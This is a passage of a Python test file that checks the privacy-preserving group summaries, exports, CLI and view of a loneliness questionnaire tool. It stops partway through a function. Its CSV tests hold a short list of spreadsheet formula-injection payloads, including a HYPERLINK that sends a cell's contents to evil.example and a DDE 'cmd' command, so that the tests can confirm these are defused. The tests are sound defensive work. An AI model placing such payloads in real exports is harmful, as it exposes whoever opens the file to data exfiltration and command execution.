@@ -1,0 +1,956 @@
+"""The facilitator's view: group figures that never single anyone out, exports that cannot attack
+whoever opens them, pasted codes, the synthetic sample, the command line, the notebook, and the
+token that keeps the view off the quiz's server."""
+
+from __future__ import annotations
+
+import csv
+import dataclasses
+import datetime
+import http.client
+import io
+import itertools
+import json
+import os
+import queue
+import secrets
+import shlex
+import socket
+import subprocess
+import sys
+import threading
+from collections import defaultdict
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import nbformat
+import numpy as np
+import pandas as pd
+import pytest
+from nbclient import NotebookClient
+
+from assess import Answers, Instrument, default_instrument
+from assess.cli import main
+from assess.cohort import score_cohort
+from assess.facilitator import (
+    FORMULA_TRIGGERS,
+    NO_ANSWER,
+    UNSCORED,
+    Breakdown,
+    CohortSummary,
+    Reason,
+    combined_frame,
+    frame_from_codes,
+    shown_quantiles,
+    summarise,
+    summary_frames,
+    summary_json,
+    summary_text,
+    suppress,
+    to_csv,
+)
+from assess.i18n import default_messages, load_messages
+from assess.model import Text
+from assess.result_code import encode_result
+from assess.synthetic import synthetic_cohort
+from assess.ui.facilitator import (
+    MAX_CODES,
+    FacilitatorView,
+    build_facilitator,
+    load_from_store,
+)
+
+ROOT = Path(__file__).resolve().parents[1]
+DAY = datetime.date(2026, 11, 26)
+
+
+@pytest.fixture(scope="module")
+def instrument() -> Instrument:
+    """The shipped questionnaire."""
+    return default_instrument()
+
+
+def breakdowns(summary: CohortSummary) -> Iterator[Breakdown]:
+    for scope in summary.scopes:
+        yield scope.bands
+    if summary.survey is not None:
+        yield summary.survey.room
+
+
+def all_outputs(summary: CohortSummary) -> str:
+    """Every text output of a summary, in both languages."""
+    messages = default_messages()
+    parts = []
+    for language in ("ja", "en"):
+        frames = summary_frames(summary, language=language)
+        parts += [to_csv(frame) for frame in frames.values()]
+        parts.append(to_csv(combined_frame(frames)))
+        parts.append(summary_json(summary, language=language))
+        parts.append(summary_text(summary, language=language, messages=messages))
+    return "\n".join(parts)
+
+
+# --- the threshold -------------------------------------------------------------------------------
+
+
+def test_a_group_of_four_sees_its_head_count_and_nothing_else(instrument: Instrument) -> None:
+    """Below 5 people every figure is withheld, with the reason "fewer than 5 people"."""
+    summary = summarise(instrument, synthetic_cohort(instrument, 4, seed=1))
+    assert summary.participants == 4
+    assert summary.withheld is not None and summary.withheld.reason is Reason.TOO_FEW
+    assert summary.withheld.text() == "fewer than 5 people"
+    assert all(scope.distribution is None for scope in summary.scopes)
+    assert all(cell.count is None for b in breakdowns(summary) for cell in b.cells)
+    assert all(alpha.alpha is None for alpha in summary.alphas)
+    assert summary.weakest == ()
+    frames = summary_frames(summary)
+    assert frames["distributions"][["mean", "median"]].isna().all().all()
+    assert frames["bands"]["count"].isna().all()
+    assert "fewer than 5 people" in summary_text(
+        summary, language="en", messages=default_messages()
+    )
+
+
+def test_five_people_are_enough_for_the_mean_but_not_for_percentiles(
+    instrument: Instrument,
+) -> None:
+    """At exactly 5 the means are shown; percentiles need 5 people on each side of them."""
+    summary = summarise(instrument, synthetic_cohort(instrument, 5, seed=1))
+    assert summary.withheld is None
+    for scope in summary.scopes:
+        if scope.distribution is not None:
+            d = scope.distribution
+            assert d.mean is not None
+            assert (d.p10, d.p25, d.median, d.p75, d.p90) == (None,) * 5
+            assert scope.withheld is not None and scope.withheld.reason is Reason.TAILS
+
+
+def test_percentiles_appear_as_the_group_grows() -> None:
+    """The median from 2 × min_group people, the quartiles from 4 ×, the 10th/90th from 10 ×."""
+    assert shown_quantiles(9, 5) == ()
+    assert shown_quantiles(10, 5) == (50.0,)
+    assert shown_quantiles(19, 5) == (50.0,)
+    assert shown_quantiles(20, 5) == (25.0, 50.0, 75.0)
+    assert shown_quantiles(49, 5) == (25.0, 50.0, 75.0)
+    assert shown_quantiles(50, 5) == (10.0, 25.0, 50.0, 75.0, 90.0)
+    assert shown_quantiles(30, 3) == (10.0, 25.0, 50.0, 75.0, 90.0)
+
+
+def test_a_configured_threshold_withholds_groups_below_it(instrument: Instrument) -> None:
+    """With min_group=8, seven people see only their head count; eight see figures."""
+    seven = summarise(instrument, synthetic_cohort(instrument, 7, seed=2), min_group=8)
+    assert seven.withheld is not None and seven.withheld.text() == "fewer than 8 people"
+    assert all(scope.distribution is None for scope in seven.scopes)
+    eight = summarise(instrument, synthetic_cohort(instrument, 8, seed=2), min_group=8)
+    assert eight.withheld is None
+    assert any(scope.distribution is not None for scope in eight.scopes)
+
+
+@pytest.mark.parametrize("value", [2, 1, 0, -5, True, 2.5, "5"])
+def test_a_threshold_below_three_or_not_a_whole_number_is_refused(
+    instrument: Instrument, value: Any
+) -> None:
+    """min_group never goes below 3, wherever it is set."""
+    frame = synthetic_cohort(instrument, 10, seed=1)
+    with pytest.raises(ValueError, match="min_group"):
+        summarise(instrument, frame, min_group=value)
+    with pytest.raises(ValueError, match="min_group"):
+        suppress([5, 5], min_group=value)
+    with pytest.raises(ValueError, match="min_group"):
+        build_facilitator(min_group=value, query_string="")
+
+
+def test_three_is_the_smallest_threshold_allowed(instrument: Instrument) -> None:
+    """min_group=3 is accepted: three people see means."""
+    summary = summarise(instrument, synthetic_cohort(instrument, 3, seed=4), min_group=3)
+    assert summary.withheld is None
+    assert summary.scope("isolation_risk").distribution is not None
+
+
+def test_a_facet_scored_for_too_few_people_is_withheld_in_a_large_group(
+    instrument: Instrument,
+) -> None:
+    """Twelve took part but only four have an emotional score: that facet alone is withheld."""
+    frame = synthetic_cohort(instrument, 12, seed=5, missing_rate=0.0)
+    emotional = [item.id for item in instrument.items_of("emotional")]
+    frame.loc[4:, emotional] = np.nan
+    summary = summarise(instrument, frame)
+    scope = summary.scope("emotional")
+    assert scope.distribution is None
+    assert scope.withheld is not None and scope.withheld.reason is Reason.TOO_FEW
+    assert "emotional" not in [s.id for s in summary.weakest]
+    assert summary.scope("spatial").distribution is not None
+    alpha = next(a for a in summary.alphas if a.facet == "emotional")
+    assert alpha.alpha is None and alpha.withheld is not None
+
+
+# --- small cells and complementary withholding ---------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("counts", "shown"),
+    [
+        ([9, 6, 0], (9, 6, 0)),
+        ([3, 2, 10], (None, None, 10)),
+        ([12, 1, 7], (12, None, None)),
+        ([1, 19, 0], (None, None, None)),
+        ([0, 0, 20], (0, 0, 20)),
+    ],
+)
+def test_a_small_cell_is_never_withheld_alone(counts: list[int], shown: tuple[int | None]) -> None:
+    """A cell of 1–4 people is withheld with at least one more, or the whole breakdown is."""
+    assert suppress(counts, min_group=5) == shown
+
+
+def test_no_withheld_count_can_be_worked_out_from_what_is_shown() -> None:
+    """Exhaustively, for 2–5 cells, thresholds 3–5 and up to 14 people: an adversary who sees
+    the shown cells and the total, and knows the rule, never pins down a withheld count."""
+    for cells, min_group in itertools.product(range(2, 6), range(3, 6)):
+        for total in range(15):
+            seen: dict[tuple[int | None, ...], list[tuple[int, ...]]] = defaultdict(list)
+            for counts in itertools.product(range(total + 1), repeat=cells):
+                if sum(counts) == total:
+                    seen[suppress(counts, min_group=min_group)].append(counts)
+            for shown, sources in seen.items():
+                hidden = [i for i, c in enumerate(shown) if c is None]
+                assert len(hidden) != 1, shown
+                assert all(c == 0 or c >= min_group for c in shown if c is not None)
+                if hidden and len(hidden) < cells:
+                    assert total - sum(c for c in shown if c is not None) >= min_group
+                for i in hidden:
+                    assert len({counts[i] for counts in sources}) >= 2, (shown, sources)
+
+
+@pytest.mark.parametrize("size", [6, 9, 13, 21, 34])
+def test_every_breakdown_of_a_summary_withholds_small_cells_in_company(
+    instrument: Instrument, size: int
+) -> None:
+    """In real summaries: shown counts are 0 or at least 5, and withheld ones come in twos."""
+    summary = summarise(instrument, synthetic_cohort(instrument, size, seed=size))
+    for breakdown in breakdowns(summary):
+        counts = [cell.count for cell in breakdown.cells]
+        hidden = [c for c in counts if c is None]
+        assert len(hidden) != 1
+        assert all(c == 0 or c >= 5 for c in counts if c is not None)
+        if hidden and len(hidden) < len(counts):
+            assert breakdown.total - sum(c for c in counts if c is not None) >= 5
+        assert all(
+            cell.withheld is not None and cell.withheld.reason is Reason.SMALL_CELLS
+            for cell in breakdown.cells
+            if cell.count is None
+        )
+
+
+def test_the_unscored_and_no_answer_cells_are_part_of_their_breakdowns(
+    instrument: Instrument,
+) -> None:
+    """One person who skipped the loneliness question is not shown as "no answer: 1"."""
+    frame = synthetic_cohort(instrument, 30, seed=8, missing_rate=0.0)
+    frame.loc[0, "lonely_direct"] = np.nan
+    summary = summarise(instrument, frame)
+    assert summary.survey is not None
+    assert summary.survey.room.cell(NO_ANSWER).count is None
+    assert sum(1 for cell in summary.survey.room.cells if cell.count is None) >= 2
+    assert summary.scope("spatial").bands.cell(UNSCORED).count == 0
+
+
+# --- no individual answers -----------------------------------------------------------------------
+
+
+def test_no_output_holds_the_answers_of_a_distinctive_respondent(instrument: Instrument) -> None:
+    """Five people, one answering in a pattern nobody else does: no table, CSV, JSON or text
+    holds a row of their answers, their result code or their own scores."""
+    crowd = synthetic_cohort(instrument, 4, seed=11, missing_rate=0.0)
+    odd = {
+        item.id: float(item.scale.values[0] if n % 2 else item.scale.values[-1])
+        for n, item in enumerate(instrument.items)
+    }
+    items = [item.id for item in instrument.items]
+    frame = pd.concat([crowd[items], pd.DataFrame([odd])], ignore_index=True)
+    summary = summarise(instrument, frame)
+    assert summary.participants == 5
+    answers = [odd[item_id] for item_id in items]
+    frames = summary_frames(summary)
+    for name, table in frames.items():
+        assert not set(table.columns) & set(items), name
+        for row in table.itertuples(index=False):
+            values = list(row)
+            for start in range(len(values) - len(answers) + 1):
+                assert values[start : start + len(answers)] != answers
+    text = all_outputs(summary)
+    code = encode_result(instrument, Answers({k: int(v) for k, v in odd.items()}), DAY)
+    assert code not in text
+    assert ",".join(f"{int(v)}" for v in answers) not in text
+    assert ",".join(f"{v}" for v in answers) not in text
+    own = score_cohort(instrument, pd.DataFrame([odd]))
+    distributions = frames["distributions"].set_index("scope")
+    for scope in summary.scopes:
+        mine = round(float(own.loc[0, f"{scope.id}_percent"]), 1)
+        figures = distributions.loc[scope.id, ["mean", "p10", "p25", "median", "p75", "p90"]]
+        assert mine not in set(figures.dropna()), scope.id
+
+
+def test_a_summary_keeps_no_rows_ids_dates_or_profile_answers(instrument: Instrument) -> None:
+    """Nothing of the input frame but aggregates survives: no result ids, dates or profiles."""
+    frame = synthetic_cohort(instrument, 25, seed=12)
+    frame.index = pd.Index([f"result-{n:04d}" for n in range(25)], name="result_id")
+    summary = summarise(instrument, frame)
+    text = all_outputs(summary)
+    assert "result-00" not in text
+    assert "2026-01-1" not in text
+    profile = {question.id for question in instrument.profile}
+    for table in summary_frames(summary).values():
+        assert not profile & set(table.columns)
+    records = json.loads(summary_json(summary))["tables"]
+    assert not profile & {key for rows in records.values() for row in rows for key in row}
+
+
+# --- exports -------------------------------------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "  =cmd|' /C calc'!A0",
+]
+
+
+def test_csv_cells_cannot_run_as_formulas() -> None:
+    """Every text cell starting with = + - @ tab or CR (or full-width = + - @) gets a quote."""
+    frame = pd.DataFrame(
+        {"label": [*HOSTILE, "ws-tokyo", "安全"], "alpha": [-0.25] + [0.5] * (len(HOSTILE) + 1)}
+    )
+    frame["=evil"] = "x"
+    rows = list(csv.reader(io.StringIO(to_csv(frame))))
+    assert rows[0] == ["label", "alpha", "'=evil"]
+    for row, original in zip(rows[1:], [*HOSTILE, "ws-tokyo", "安全"], strict=True):
+        assert not row[0].startswith(FORMULA_TRIGGERS)
+        assert row[0] in (original, "'" + original)
+    assert rows[-2][0] == "ws-tokyo" and rows[-1][0] == "安全"
+    assert rows[1][1] == "-0.25", "numbers stay numbers"
+
+
+def test_hostile_cohort_codes_and_labels_are_defused_in_every_table(
+    instrument: Instrument,
+) -> None:
+    """A cohort code or a facet label from a data file that looks like a formula is quoted."""
+    hostile = dataclasses.replace(
+        instrument,
+        facets=tuple(
+            dataclasses.replace(facet, label=Text(ja="=1+1", en="@SUM(1+1)"))
+            for facet in instrument.facets
+        ),
+    )
+    summary = summarise(
+        hostile, synthetic_cohort(hostile, 30, seed=3), cohort='=HYPERLINK("http://x")'
+    )
+    for language in ("ja", "en"):
+        frames = summary_frames(summary, language=language)
+        for text in [to_csv(f) for f in frames.values()] + [to_csv(combined_frame(frames))]:
+            for row in csv.reader(io.StringIO(text)):
+                for cell in row:
+                    assert not cell.startswith(FORMULA_TRIGGERS), cell
+
+
+def test_the_tables_are_tidy_and_complete(instrument: Instrument) -> None:
+    """Six tables; one row per scope, per band, per facet ranked, per survey answer, per alpha."""
+    summary = summarise(instrument, synthetic_cohort(instrument, 60, seed=9))
+    frames = summary_frames(summary, language="ja")
+    assert list(frames) == ["overview", "distributions", "bands", "weakest", "survey", "alphas"]
+    scopes = len(instrument.facets) + len(instrument.indices)
+    assert len(frames["distributions"]) == scopes
+    assert len(frames["bands"]) == sum(len(s.bands.cells) for s in summary.scopes)
+    assert len(frames["survey"]) == 6
+    assert len(frames["alphas"]) == len(instrument.facets)
+    assert frames["overview"].loc[0, "participants"] == 60
+    survey = frames["survey"]
+    assert survey["national_share"].tolist() == [4.8, 14.8, 19.7, 41.4, 17.9, 1.5]
+    assert survey["national_round"].unique().tolist() == [2023]
+
+
+# --- weakest facets and the survey ---------------------------------------------------------------
+
+
+def test_the_weakest_facets_rank_risk_by_score_and_strength_by_its_lack(
+    instrument: Instrument,
+) -> None:
+    """Everybody alone with nobody to consult: safety net (risk high) and depth (strength low)
+    lead; a strong facet comes last."""
+    frame = synthetic_cohort(instrument, 20, seed=6, missing_rate=0.0)
+    for item in instrument.items_of("safety_net"):
+        frame[item.id] = float(max(item.scale.values, key=item.keyed_score))
+    for item in instrument.items_of("depth"):
+        frame[item.id] = float(min(item.scale.values, key=item.keyed_score))
+    for item in instrument.items_of("online"):
+        frame[item.id] = float(max(item.scale.values, key=item.keyed_score))
+    summary = summarise(instrument, frame)
+    ranked = [scope.id for scope in summary.weakest]
+    assert set(ranked[:2]) == {"safety_net", "depth"}
+    assert ranked[-1] == "online"
+    assert summary.weakest[0].need == 100.0
+
+
+def test_the_loneliness_question_is_counted_beside_the_national_survey(
+    instrument: Instrument,
+) -> None:
+    """Ten people who all feel lonely often: 10 in that answer, 0 elsewhere, national 4.8 %."""
+    frame = synthetic_cohort(instrument, 10, seed=7, missing_rate=0.0)
+    frame["lonely_direct"] = 5.0
+    summary = summarise(instrument, frame)
+    assert summary.survey is not None
+    room = summary.survey.room
+    assert [cell.count for cell in room.cells] == [10, 0, 0, 0, 0, 0]
+    assert room.share(room.cell("5")) == 100.0
+    assert summary.survey.national_share("5") == 4.8
+    assert summary.survey.round.year == 2023
+
+
+def test_an_instrument_without_the_loneliness_question_has_no_comparison(
+    small_instrument: Instrument,
+) -> None:
+    """Another questionnaire (the small test one) is summarised without the survey."""
+    summary = summarise(small_instrument, synthetic_cohort(small_instrument, 12, seed=1))
+    assert summary.survey is None
+    assert summary_frames(summary)["survey"].empty
+
+
+def test_answers_off_their_scale_are_refused_without_naming_a_row(
+    instrument: Instrument,
+) -> None:
+    """A value that is not an option is an error naming the question, not the respondent."""
+    frame = synthetic_cohort(instrument, 10, seed=1)
+    frame.loc[3, "spatial_1"] = 9.0
+    with pytest.raises(ValueError, match="spatial_1") as caught:
+        summarise(instrument, frame)
+    assert "row" not in str(caught.value)
+
+
+def test_a_frame_without_any_question_is_refused(instrument: Instrument) -> None:
+    """A frame of other columns is a mistake, not a group of people who skipped everything."""
+    with pytest.raises(ValueError, match="none of the questions"):
+        summarise(instrument, pd.DataFrame({"spatial-1": [1, 2, 3]}))
+
+
+# --- pasted result codes -------------------------------------------------------------------------
+
+
+def codes_for(instrument: Instrument, frame: pd.DataFrame) -> list[str]:
+    codes = []
+    for _, row in frame.iterrows():
+        responses = {
+            item.id: int(row[item.id]) for item in instrument.items if pd.notna(row[item.id])
+        }
+        codes.append(encode_result(instrument, Answers(responses), DAY))
+    return codes
+
+
+def test_pasted_codes_with_bad_lines_are_reported_by_line_number(instrument: Instrument) -> None:
+    """Blank lines are skipped; a bad line is named by its number, never by its text."""
+    codes = codes_for(instrument, synthetic_cohort(instrument, 3, seed=1))
+    lines = [
+        codes[0],
+        "",
+        "this is not a code!",
+        codes[1],
+        codes[0],
+        codes[2][:-3],
+        f"  {codes[2]}  ",
+        "A" * len(codes[0]),
+    ]
+    frame, problems = frame_from_codes(instrument, lines)
+    assert len(frame) == 3
+    assert [(p.line, p.problem) for p in problems] == [
+        (3, "characters"),
+        (5, "duplicate"),
+        (6, "length"),
+        (8, "checksum"),
+    ]
+    assert str(problems[1]) == "line 5: the same result code as line 1; counted once"
+    for problem in problems:
+        assert str(problem).startswith(f"line {problem.line}: ")
+        assert codes[0] not in str(problem) and codes[2][:-3] not in str(problem)
+        assert "this is not" not in str(problem)
+
+
+def test_decoded_codes_give_back_the_answers_they_hold(instrument: Instrument) -> None:
+    """The frame from codes holds every item (NaN where skipped), the profile and the date."""
+    source = synthetic_cohort(instrument, 6, seed=2)
+    frame, problems = frame_from_codes(instrument, codes_for(instrument, source))
+    assert problems == []
+    items = [item.id for item in instrument.items]
+    pd.testing.assert_frame_equal(frame[items], source[items], check_dtype=False)
+    assert set(frame["taken_on"]) == {DAY}
+    assert list(frame.columns) == items + [q.id for q in instrument.profile] + ["taken_on"]
+
+
+# --- the synthetic sample ------------------------------------------------------------------------
+
+
+def test_a_synthetic_cohort_is_flagged_everywhere_it_is_shown(instrument: Instrument) -> None:
+    """The frame carries the flag; the summary, tables, JSON and text say "synthetic (sample)"."""
+    frame = synthetic_cohort(instrument, 20, seed=3)
+    assert frame.attrs["synthetic"] is True and bool(frame["synthetic"].all())
+    summary = summarise(instrument, frame)
+    assert summary.synthetic
+    assert summary_frames(summary, language="en")["overview"].loc[0, "data"] == (
+        "synthetic (sample) data"
+    )
+    assert summary_frames(summary, language="ja")["overview"].loc[0, "data"] == (
+        "合成（サンプル）データ"
+    )
+    assert json.loads(summary_json(summary))["synthetic"] is True
+    for language in ("ja", "en"):
+        text = summary_text(summary, language=language, messages=default_messages())
+        assert "合成（サンプル）データ" in text and "synthetic (sample) data" in text
+    real = frame.drop(columns="synthetic")
+    real.attrs.clear()
+    assert not summarise(instrument, real).synthetic
+
+
+def test_a_synthetic_cohort_is_reproducible_by_seed(instrument: Instrument) -> None:
+    """The same seed gives the same answers; another seed gives others."""
+    first = synthetic_cohort(instrument, 40, seed=21)
+    pd.testing.assert_frame_equal(first, synthetic_cohort(instrument, 40, seed=21))
+    assert not first.equals(synthetic_cohort(instrument, 40, seed=22))
+    with pytest.raises(ValueError, match="size"):
+        synthetic_cohort(instrument, -1, seed=1)
+
+
+def test_a_large_synthetic_cohort_has_plausible_alphas(instrument: Instrument) -> None:
+    """600 synthetic people: every facet's alpha is shown and between 0.6 and 0.95."""
+    summary = summarise(instrument, synthetic_cohort(instrument, 600, seed=4))
+    assert len(summary.alphas) == len(instrument.facets)
+    for alpha in summary.alphas:
+        assert alpha.alpha is not None and 0.6 <= alpha.alpha <= 0.95, alpha
+    assert all(scope.distribution is not None for scope in summary.scopes)
+    assert all(
+        scope.distribution.complete for scope in summary.scopes if scope.distribution is not None
+    )
+
+
+# --- the command line ----------------------------------------------------------------------------
+
+
+def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
+    code = main(["cohort", *argv])
+    captured = capsys.readouterr()
+    return code, captured.out, captured.err
+
+
+def test_the_command_line_writes_text(capsys: pytest.CaptureFixture[str]) -> None:
+    """Text in Japanese by default, in English on request, marked as synthetic."""
+    code, out, _ = run(capsys, "--synthetic", "30", "--seed", "5")
+    assert code == 0
+    assert "参加者：30人" in out and "合成（サンプル）データ" in out
+    code, out, _ = run(capsys, "--synthetic", "30", "--seed", "5", "--lang", "en")
+    assert code == 0
+    assert "Participants: 30" in out and "synthetic (sample) data" in out
+    assert "Cronbach" in out
+
+
+def test_the_command_line_writes_csv(capsys: pytest.CaptureFixture[str]) -> None:
+    """All tables in one CSV with a table column, or one table, with the same figures."""
+    code, out, _ = run(capsys, "--synthetic", "40", "--format", "csv", "--lang", "en")
+    assert code == 0
+    combined = pd.read_csv(io.StringIO(out))
+    assert set(combined["table"]) == {
+        "overview",
+        "distributions",
+        "bands",
+        "weakest",
+        "survey",
+        "alphas",
+    }
+    code, out, _ = run(capsys, "--synthetic", "40", "--format", "csv", "--table", "alphas")
+    alphas = pd.read_csv(io.StringIO(out))
+    instrument = default_instrument()
+    expected = summary_frames(summarise(instrument, synthetic_cohort(instrument, 40, seed=2026)))
+    assert alphas["alpha"].tolist() == expected["alphas"]["alpha"].tolist()
+    assert combined.loc[combined["table"] == "overview", "participants"].tolist() == [40]
+
+
+def test_the_command_line_writes_json(capsys: pytest.CaptureFixture[str]) -> None:
+    """JSON with the head count, the threshold, the flag and every table; null where withheld."""
+    code, out, _ = run(capsys, "--synthetic", "12", "--format", "json", "--min-group", "4")
+    assert code == 0
+    document = json.loads(out)
+    assert document["participants"] == 12 and document["min_group"] == 4
+    assert document["synthetic"] is True
+    assert set(document["tables"]) == {"distributions", "bands", "weakest", "survey", "alphas"}
+    for record in document["tables"]["bands"]:
+        assert (record["count"] is None) == (record["withheld"] is not None)
+
+
+def test_the_command_line_reads_codes_and_reports_bad_lines(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path, instrument: Instrument
+) -> None:
+    """--codes FILE: bad lines are warnings by line number; the rest are summarised."""
+    codes = codes_for(instrument, synthetic_cohort(instrument, 6, seed=9))
+    path = tmp_path / "codes.txt"
+    path.write_text("\n".join([*codes[:3], "garbage", *codes[3:]]) + "\n", encoding="utf-8")
+    code, out, err = run(capsys, "--codes", str(path), "--format", "json", "--cohort", "ws-1")
+    assert code == 0
+    assert json.loads(out)["participants"] == 6
+    assert json.loads(out)["cohort"] == "ws-1"
+    assert "warning: line 4:" in err and "garbage" not in err
+
+
+def test_the_command_line_reads_a_workshop_from_the_store(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path, instrument: Instrument
+) -> None:
+    """--store URL --cohort CODE reads only that workshop's saved results."""
+    from assess.store import ResultRecord, ResultStore
+
+    url = f"sqlite:///{tmp_path / 'results.sqlite3'}"
+    frame = synthetic_cohort(instrument, 9, seed=10)
+    with ResultStore.open(url) as store:
+        for n, (_, row) in enumerate(frame.iterrows()):
+            responses = {
+                item.id: int(row[item.id]) for item in instrument.items if pd.notna(row[item.id])
+            }
+            record = ResultRecord.create(
+                instrument.id,
+                instrument.version,
+                DAY,
+                Answers(responses),
+                cohort="ws-store" if n < 7 else "other",
+            )
+            store.save(record, consent=True)
+    code, out, _ = run(capsys, "--store", url, "--cohort", "WS-Store", "--format", "json")
+    assert code == 0
+    document = json.loads(out)
+    assert document["participants"] == 7 and document["synthetic"] is False
+    code, _, err = run(capsys, "--store", url)
+    assert code == 1 and "--cohort" in err
+
+
+def test_the_command_line_refuses_a_threshold_below_three(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    """--min-group 2 is an error, not a quieter kind of summary."""
+    code, out, err = run(capsys, "--synthetic", "30", "--min-group", "2")
+    assert code == 1 and out == "" and "at least 3" in err
+
+
+# --- the view ------------------------------------------------------------------------------------
+
+
+def view_html(view: FacilitatorView) -> str:
+    parts = [view.status.value]
+    for child in view.results.children:
+        if hasattr(child, "value"):
+            parts.append(child.value)
+    return "\n".join(parts)
+
+
+class FakeStore:
+    """A stand-in for the result store: one workshop's frame, shaped like the real one."""
+
+    def __init__(self, frame: pd.DataFrame) -> None:
+        self.frame = frame
+        self.asked: list[str] = []
+        self.closed = False
+
+    def cohort_frame(self, cohort: str) -> pd.DataFrame:
+        self.asked.append(cohort)
+        return self.frame
+
+    def close(self) -> None:
+        self.closed = True
+
+
+def store_like(instrument: Instrument, size: int) -> pd.DataFrame:
+    frame = synthetic_cohort(instrument, size, seed=13).drop(columns="synthetic")
+    frame.attrs.clear()
+    frame["taken_on"] = pd.to_datetime(frame["taken_on"])
+    frame.index = pd.Index([f"id-{n}" for n in range(size)], name="result_id")
+    return frame
+
+
+def test_the_view_shows_a_synthetic_sample_from_the_query_string() -> None:
+    """?source=synthetic shows at once: counts, charts, weakest facets, survey, alphas, CSVs."""
+    view = build_facilitator(query_string="source=synthetic&size=40&lang=en")
+    assert view.summary is not None and view.summary.participants == 40
+    html = view_html(view)
+    assert "synthetic (sample) data" in html
+    assert "Participants: 40" in html
+    assert "Where the room needs most support" in html
+    assert "National survey (2023)" in html and "cas.go.jp" in html
+    assert "Cronbach" in html
+    assert set(view.figures) == {"indices", "facets", "survey"}
+    assert len(view.downloads) == 6
+    for content in view.downloads.values():
+        assert content.startswith("\ufeff".encode())
+
+
+def test_the_view_says_why_figures_are_withheld(instrument: Instrument) -> None:
+    """A group of four: the view says "fewer than 5 people" (Japanese first, English too)."""
+    view = build_facilitator(query_string="source=synthetic&size=4")
+    assert "5人未満" in view_html(view)
+    view.language = "en"
+    assert "fewer than 5 people" in view_html(view)
+    assert view.language_toggle.value == "en"
+
+
+def test_the_view_reads_pasted_codes_and_lists_bad_lines(instrument: Instrument) -> None:
+    """Pasted codes are summarised; bad lines are listed by number, in the view's language."""
+    view = build_facilitator(query_string="lang=en")
+    codes = codes_for(instrument, synthetic_cohort(instrument, 8, seed=14))
+    view.source_toggle.value = "codes"
+    view.codes_input.value = "\n".join([codes[0], "oops", *codes[1:], codes[1]])
+    view.show()
+    assert view.summary is not None and view.summary.participants == 8
+    html = view_html(view)
+    assert "Line 2:" in html and "Line 10:" in html and "oops" not in html
+
+
+def test_the_view_reads_a_workshop_from_a_store(instrument: Instrument) -> None:
+    """?source=store&cohort=… reads the store once, closes it and summarises the frame."""
+    fake = FakeStore(store_like(instrument, 12))
+    view = build_facilitator(
+        query_string="source=store&cohort=ws-osaka&lang=en", open_store=lambda url: fake
+    )
+    assert fake.asked == ["ws-osaka"] and fake.closed
+    assert view.summary is not None and view.summary.participants == 12
+    assert not view.summary.synthetic
+    assert "Workshop code: ws-osaka" in view_html(view)
+
+
+def test_loading_from_a_store_passes_the_questionnaire_when_the_store_takes_it(
+    instrument: Instrument,
+) -> None:
+    """A store whose cohort_frame takes instrument= gets it, so versions are not mixed."""
+    calls: list[object] = []
+
+    class VersionedStore(FakeStore):
+        def cohort_frame(self, cohort: str, *, instrument: Instrument | None = None) -> Any:
+            calls.append(instrument)
+            return self.frame
+
+    store = VersionedStore(store_like(instrument, 5))
+    frame = load_from_store(instrument, "sqlite://", "ws", open_store=lambda url: store)
+    assert calls == [instrument] and len(frame) == 5 and store.closed
+
+
+def test_the_view_rechecks_what_a_forged_message_could_set(instrument: Instrument) -> None:
+    """An unknown source, an oversized paste, a bad size or a missing code are refused."""
+    view = build_facilitator(query_string="lang=en")
+    view.source_toggle._trait_values["value"] = "filesystem"
+    view.show()
+    assert view.summary is None and "choose where the answers come from" in view.status.value
+    view.source_toggle._trait_values["value"] = "codes"
+    view.codes_input.value = "\n".join(["x"] * (MAX_CODES + 1))
+    view.show()
+    assert view.summary is None and f"at most {MAX_CODES}" in view.status.value
+    view.source_toggle._trait_values["value"] = "synthetic"
+    view.size_input._trait_values["value"] = 10**9
+    view.show()
+    assert view.summary is None and "from 1 to 1000" in view.status.value
+    view.source_toggle._trait_values["value"] = "store"
+    view.cohort_input.value = ""
+    view.show()
+    assert view.summary is None and "enter the workshop code" in view.status.value
+
+
+def test_a_failing_store_is_reported_in_the_view(instrument: Instrument) -> None:
+    """A store that cannot be opened leaves the page working and says why."""
+
+    def broken(url: str | None) -> Any:
+        raise OSError("database is unreachable")
+
+    view = build_facilitator(query_string="source=store&cohort=ws-1&lang=en", open_store=broken)
+    assert view.summary is None
+    assert "database is unreachable" in view.status.value
+
+
+def test_the_query_string_cannot_lower_the_threshold() -> None:
+    """min_group is the composition's setting, not the page's."""
+    view = build_facilitator(query_string="source=synthetic&size=4&min_group=1&lang=en")
+    assert view.summary is not None and view.summary.min_group == 5
+    assert view.summary.withheld is not None
+
+
+def test_the_wording_exists_in_both_languages_with_the_same_placeholders() -> None:
+    """data/i18n/facilitator.yaml loads on its own and merged with the other catalogues."""
+    own = load_messages(ROOT / "data" / "i18n" / "facilitator.yaml")
+    assert all(key.startswith("facilitator.") for key in own.texts)
+    merged = default_messages()
+    for key in own.texts:
+        assert merged.get(key) == own.texts[key]
+    for reason in Reason:
+        assert f"facilitator.withheld.{reason.value}" in own.texts
+
+
+def test_the_view_renders_in_japanese_and_english_without_missing_wording(
+    instrument: Instrument,
+) -> None:
+    """Every state of the view (small, partial, full, with problems) renders in ja and en."""
+    for size in (3, 7, 25, 60):
+        view = build_facilitator(query_string=f"source=synthetic&size={size}")
+        view.codes_input.value = "oops"
+        for language in ("en", "ja"):
+            view.language = language
+            assert view_html(view)
+
+
+# --- the notebook and its server -----------------------------------------------------------------
+
+NOTEBOOK = ROOT / "facilitator" / "cohort.ipynb"
+
+
+def test_the_facilitator_notebook_sits_outside_the_quiz_folder() -> None:
+    """The quiz server serves notebooks/; the facilitator's notebook is not there, and thin."""
+    assert NOTEBOOK.exists()
+    assert not (ROOT / "notebooks" / "cohort.ipynb").exists()
+    assert not NOTEBOOK.resolve().is_relative_to((ROOT / "notebooks").resolve())
+    notebook = nbformat.read(NOTEBOOK, as_version=4)
+    code = [cell for cell in notebook.cells if cell.cell_type == "code"]
+    assert len(code) == 1 and "build_facilitator" in code[0].source
+
+
+@pytest.mark.slow
+def test_the_notebook_runs_headless_with_the_synthetic_source(
